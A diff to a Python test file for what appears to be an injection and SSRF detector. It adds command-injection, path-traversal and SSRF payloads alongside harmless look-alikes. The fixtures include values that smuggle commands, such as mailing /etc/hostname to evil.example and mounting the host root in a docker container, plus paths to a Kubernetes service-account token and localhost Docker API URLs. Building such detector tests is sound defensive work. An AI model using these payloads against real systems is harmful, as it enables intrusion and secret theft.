@@ -70,7 +70,8 @@ ATTACKS = {
         "--upload-pack=touch /tmp/x", "-oProxyCommand=calc", "photo.png & calc.exe", "photo.png|id>/tmp/x",
         "x; docker run -v /:/host alpine", "x | mail -s y eve@evil.example < /etc/hostname",
         "; frobnicate", "| frobnicate --all", "') && frobnicate a b", "|| frobnicate /srv/x", "& frobnicate /q &",
-        "$(frobnicate --all)", "`frobnicate --all`", ";fro'b'nicate", ";/us?/bi?/frob", "& 9frob x a.9z &", ";$HOME",
+        "$(frobnicate --all)", "`frobnicate --all`", ";fro'b'nicate",
+        "& echo x7q", "`echo x7q`", ";/us?/bi?/frob", "& 9frob x a.9z &", ";$HOME",
         "a=fro;b=b;$a$b", "%3b%20frobnicate",
     ],
     "PATH_TRAVERSAL": [
@@ -79,6 +80,8 @@ ATTACKS = {
         "....//....//etc/hosts", "uploads/../../../secret.txt",
         "/run/secrets/kubernetes.io/serviceaccount/token", "..%uEFC8..%uEFC8etc%uEFC8issue",
         "%e0%80%ae%e0%80%ae\\etc\\issue",
+        "https://a.example/x/../../y", "https://a.example/me/../you/1",
+        "https://a.example/x/%2e%2e/y", "https://a.example/..;/y", "https://a.example/?file=/../../y",
         "%c0%5e%c0%5e%uF025boot.ini", "..0x5c..0x5cwindows0x5cx", ".?/.?/.?/etc/issue",
     ],
     "SSRF": [
@@ -119,6 +122,8 @@ HARMLESS = [
     "`useState`", "`git rebase`",
     "; the rest of the sentence, as it was said", "| a row of a table without any end", "10.02.2024", "01:00",
     "10:00AM", "0.95", "127.1", "2130706433", "localhost", "127.0.0.1:8080", "192.168.0.10", "v1.10.0.0.1",
+    "10.0.0.0/8", "192.168.1.0/24", "10.0.19041.1", "import x from '../../lib'", "https://github.com/o/r/compare/v1...v2",
+    "https://a.example/a..b/c", "https://a.example/?to=../x",
     "0x7f000001", "100%", "a:b", "backup-2024-10-05-12-30.zip",
     "src/x.hh | 134 ++++++++++++++++++++++++++++++++---------", "'", "''",
     "[ ] open [ ] done",
@@ -554,7 +559,8 @@ def test_a_bare_host_of_a_cloud_is_known() -> None:
 @pytest.mark.parametrize(
     "text",
     ["0x7f.1", "0x7F.0x00.0x00.0x01", "0177.0.0.1", "127.000.000.001", "127%2e0%2e0%2e1", "127%252e0.0.1", "[::1]",
-     "127\u30020\u30020\u30021", "\u2460\u2461\u2466.0.0.1", "localtest.me", "127.0.0.1.nip.io", "localhost:+11211aaa",
+     "127\u30020\u30020\u30021", "\u2460\u2461\u2466.0.0.1", "0177.0.0.1/", "[::]:80/", "localhost/admin",
+     "nicob.net/x", "127.0.0.1:2375/v1.24/containers/json", "localtest.me", "127.0.0.1.nip.io", "localhost:+11211aaa",
      "http://\u24f5\u24fd\u24f6.\u24f5\u24fa\u24fc.\u24f5.\u24f5/", "https:/\\evil.example", "http:/\\/\\evil.example",
      "https:evil.example", "http://////evil.example/", "https://192.0.2.2#.192.0.2.3/", "http://a.example?@b.example"],
 )  # fmt: skip
